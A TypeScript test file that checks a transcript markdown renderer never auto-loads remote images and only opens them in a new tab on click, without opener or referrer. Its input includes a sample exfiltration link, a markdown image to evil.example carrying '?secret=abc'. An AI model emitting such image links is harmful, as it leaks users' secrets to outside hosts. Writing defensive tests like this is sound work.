/**
 * The transcript's markdown renderer (web/src/components/markdown.tsx): an image the model names is
 * never fetched by the page; it is a button that opens it in a new tab only when clicked.
 */
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterEach, describe, expect, it, vi } from "vitest";
import { HeldImage, MarkdownText } from "../../web/src/components/markdown";

afterEach(() => vi.unstubAllGlobals());

describe("security: images in a transcript", () => {
  it("renders no <img> for a remote image, only a button naming its host", () => {
    vi.stubGlobal("location", new URL("https://tower.example.com/sessions/ses_1"));
    const html = renderToStaticMarkup(createElement(MarkdownText, { text: "Done. ![status](https://evil.example/pixel.png?secret=abc) and ![](/api/x)" }));
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/src="[^"]*evil\.example/);
    expect(html).toContain("Load image from evil.example (status)");
    expect(html).toContain("Load image from this Tower");
  });

  it("opens the image in a new tab, without opener or referrer, only when clicked", () => {
    vi.stubGlobal("location", new URL("https://tower.example.com/"));
    const open = vi.fn();
    vi.stubGlobal("window", { open });
    const button = HeldImage({ src: "https://evil.example/pixel.png", alt: "x" }) as { props: { onClick(): void } };
    expect(open).not.toHaveBeenCalled();
    button.props.onClick();
    expect(open).toHaveBeenCalledWith("https://evil.example/pixel.png", "_blank", "noopener,noreferrer");
  });
});
